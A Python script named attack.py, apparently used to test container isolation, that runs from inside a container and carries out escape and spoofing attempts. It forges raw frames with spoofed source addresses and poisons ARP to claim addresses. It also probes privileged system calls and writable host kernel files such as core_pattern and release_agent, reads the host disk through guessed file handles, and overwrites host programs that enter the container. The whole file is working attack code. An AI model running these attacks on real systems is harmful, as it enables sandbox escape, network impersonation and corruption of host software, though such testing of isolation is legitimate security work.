#!/usr/bin/python3 -I
"""What runs inside hostile containers: with root's usual capabilities of a container, NET_RAW among them.

usage: attack.py listen PORT [ADDRESS]  prints every datagram that comes, with its sender; `::` hears IPv6 too
       attack.py send HOST PORT TEXT    an ordinary datagram
       attack.py forge [--from ADDRESS] [--mac ADDRESS] HOST PORT TEXT
                                        a datagram in a frame made by hand, to whoever is at the other end of the wire
       attack.py claim ADDRESS          says to all on the wire, by ARP, that it has the address
       attack.py calls                  tries system calls that would lead out; prints those that are not refused
       attack.py files                  tries files that would; prints those that can be written, or read and have something
       attack.py overwrite              waits for programs of the host that enter, and tries to overwrite them
       attack.py handles PATH           opens the host's files by handles; prints what it gets
"""

import ctypes
import errno
import os
import socket
import struct
import sys
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def listen(port, address="0.0.0.0"):
    server = socket.socket(family(address), socket.SOCK_DGRAM)
    server.bind((address, int(port)))
    print("listening", flush=True)
    while True:
        data, peer = server.recvfrom(2048)
        print("got", data.decode(errors="replace"), "from", peer[0], flush=True)


def send(host, port, text):
    socket.socket(family(host), socket.SOCK_DGRAM).sendto(text.encode(), (host, int(port)))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def wire():
    """A socket for frames, this end's hardware address, and that of the other end."""
    frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    frames.bind(("eth0", 0))
    return frames, frames.getsockname()[4], b"\xee" * 6


def own_address(target):
    probe = socket.socket(family(target), socket.SOCK_DGRAM)
    probe.connect((target, 9))
    return probe.getsockname()[0]


def forge(*words):
    words, sender, hardware = list(words), None, None
    while words[0].startswith("--"):
        option, value = words.pop(0), words.pop(0)
        if option == "--from":
            sender = value
        else:
            hardware = bytes.fromhex(value.replace(":", ""))
    host, port, text = words
    kind = family(host)
    source, target = (socket.inet_pton(kind, one) for one in (sender or own_address(host), host))
    length = 8 + len(text)
    datagram = struct.pack(">4H", 40000, int(port), length, 0) + text.encode()
    pseudo = source + target + (struct.pack(">BBH", 0, 17, length) if kind == socket.AF_INET else struct.pack(">II", length, 17))
    datagram = datagram[:6] + struct.pack(">H", checksum(pseudo + datagram) or 0xFFFF) + datagram[8:]
    if kind == socket.AF_INET:
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + length, 7, 0, 64, 17, 0, source, target)
        header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    else:
        header = struct.pack(">IHBB16s16s", 6 << 28, length, 17, 64, source, target)
    frames, own, other = wire()
    protocol = b"\x08\x00" if kind == socket.AF_INET else b"\x86\xdd"
    for _ in range(3):
        frames.send(other + (hardware or own) + protocol + header + datagram)


def claim(address):
    frames, own, other = wire()
    claimed = socket.inet_aton(address)
    for target in (b"\xff" * 6, other):
        for operation in (1, 2):  # a question and an answer, both of which tell who has what
            frames.send(target + own + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, own, claimed,
                                                                 target, claimed))


#: name → number for x86_64 and arguments that do no harm where it is let through
CALLS = {
    "mount": (165, b"none", b"/mnt", b"tmpfs", 0, 0), "umount2": (166, b"/proc", 2), "pivot_root": (155, b"/", b"/"),
    "unshare of users": (272, 0x10000000), "unshare of mounts": (272, 0x00020000), "setns": (308, -1, 0),
    "clone of users": (56, 0x10000000 | 17, 0, 0, 0, 0), "open_by_handle_at": (304, -100, b"\0" * 32, 0),
    "bpf": (321, 0, 0, 0), "perf_event_open": (298, 0, 0, -1, -1, 0), "init_module": (175, 0, 0, b""), "finit_module": (313, -1, b"", 0),
    "delete_module": (176, b"none", 0), "kexec_load": (246, 0, 0, 0, 0), "swapon": (167, b"/none", 0), "swapoff": (168, b"/none"),
    "acct": (163, b"/none"), "settimeofday": (164, 0, 0), "clock_settime": (227, 0, 0), "sethostname": (170, b"x", 1),
    "add_key": (248, b"user", b"x", b"x", 1, -3), "request_key": (249, b"user", b"x", 0, 0), "keyctl": (250, 0, -3, 0, 0, 0),
    "iopl": (172, 3), "ioperm": (173, 0x80, 1, 1), "syslog": (103, 3, 0, 0), "quotactl": (179, 0, 0, 0, 0),
    "userfaultfd": (323, 0), "fsopen": (430, b"tmpfs", 0), "move_mount": (429, -1, b"", -1, b"", 0), "open_tree": (428, -100, b"/", 1),
    "mount_setattr": (442, -100, b"/", 0, 0, 0), "vhangup": (153,), "reboot": (169, 0, 0, 0, 0), "ptrace of init": (101, 16, 1, 0, 0),
    "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "lookup_dcookie": (212, 0, 0, 0),
}
#: what the kernel lets any root of a container do with processes of its own namespaces
OWN = {"ptrace of init", "process_vm_readv"}


def calls():
    for name, (number, *arguments) in CALLS.items():
        ctypes.set_errno(0)
        result = LIBC.syscall(number, *(ctypes.c_char_p(one) if isinstance(one, bytes) else ctypes.c_long(one) for one in arguments))
        if name.startswith("clone") and result == 0:
            os._exit(0)
        failure = ctypes.get_errno()
        if name not in OWN and not (result == -1 and failure in (errno.EPERM, errno.ENOSYS, errno.EACCES)):
            print(name, result, errno.errorcode.get(failure, failure))
    print("tried", len(CALLS))


WRITTEN = """
    /proc/sys/kernel/core_pattern /proc/sys/kernel/hostname /proc/sys/kernel/modprobe /proc/sys/kernel/sysrq /proc/sys/vm/panic_on_oom
    /proc/sys/vm/drop_caches /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/conf/all/rp_filter /proc/sys/fs/binfmt_misc/register
    /proc/sysrq-trigger /proc/irq/default_smp_affinity /proc/bus/pci/devices /proc/kcore /proc/kmsg /proc/mem
    /sys/kernel/mm/transparent_hugepage/enabled /sys/kernel/uevent_helper /sys/fs/cgroup/release_agent /sys/fs/cgroup/memory/release_agent
    /sys/fs/cgroup/memory/notify_on_release /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/cgroup.procs /sys/power/state
    /sys/module/kernel/parameters/panic /sys/class/net/eth0/mtu /dev/mem /dev/kmem /dev/kmsg /dev/port /dev/sda /dev/vda
    /proc/1/oom_score_adj.host
    """.split()
READ = """
    /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /proc/latency_stats /proc/acpi /proc/scsi /proc/asound /sys/firmware
    /sys/devices/virtual/powercap /dev/mem /dev/kmsg /proc/kmsg /sys/kernel/debug /sys/kernel/tracing
    """.split()


def files():
    for path in WRITTEN:
        try:
            os.close(os.open(path, os.O_WRONLY))
            print("write", path)
        except OSError:
            pass
    for path in READ:
        try:
            has = os.listdir(path) if os.path.isdir(path) else Path(path).open("rb").read(16)
            if has:
                print("read", path, has[:3])
        except OSError:
            pass
    for kind, numbers in (("b", [(7, 0), (8, 0), (253, 0), (254, 0), (259, 0)]), ("c", [(1, 1), (1, 2), (1, 4), (1, 11), (10, 200), (10, 232)])):
        for major, minor in numbers:
            path = f"/tmp/{kind}-{major}-{minor}"
            try:
                os.mknod(path, 0o600 | (0o060000 if kind == "b" else 0o020000), os.makedev(major, minor))
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                print("device", kind, major, minor)
            except OSError as error:
                if error.errno not in (errno.EPERM, errno.EACCES):
                    print("device", kind, major, minor, errno.errorcode[error.errno])
    print("tried", len(WRITTEN) + len(READ))


def handles(path):
    """A file system's root has a handle that anybody can guess (inode 2); who may open handles reads the whole disk."""
    mount = os.open(path, os.O_RDONLY)
    for kind, body in ((1, struct.pack("=IIQ", 2, 0, 0)), (1, struct.pack("=II", 2, 0)), (0x81, struct.pack("=QI", 128, 0)), (0xFE, b"\0" * 8)):
        handle = ctypes.create_string_buffer(struct.pack("=Ii", len(body), kind) + body)
        found = LIBC.syscall(304, mount, handle, os.O_RDONLY)
        if found >= 0:
            print("opened", os.listdir(found)[:5])
    print("tried")


def overwrite():
    """Holds the program of every process that comes, and writes into it what stands there already once it may be written."""
    held = {}
    own = Path("/proc/self/exe").readlink()
    while True:
        for entry in Path("/proc").glob("[0-9]*/exe"):
            try:
                name = entry.readlink()
                if name != own and "busybox" not in str(name) and str(name) not in held:
                    held[str(name)] = os.open(entry, os.O_RDONLY)
                    print("seen", name, flush=True)
            except OSError:
                pass
        for name, program in held.items():
            try:
                target = os.open(f"/proc/self/fd/{program}", os.O_WRONLY)
                if os.pwrite(target, b"\x7f", 0) == 1:
                    print("overwrote", name, flush=True)
                os.close(target)
            except OSError:
                pass


if __name__ == "__main__":
    {work.__name__: work for work in (listen, send, forge, claim, calls, files, overwrite, handles)}[sys.argv[1]](*sys.argv[2:])
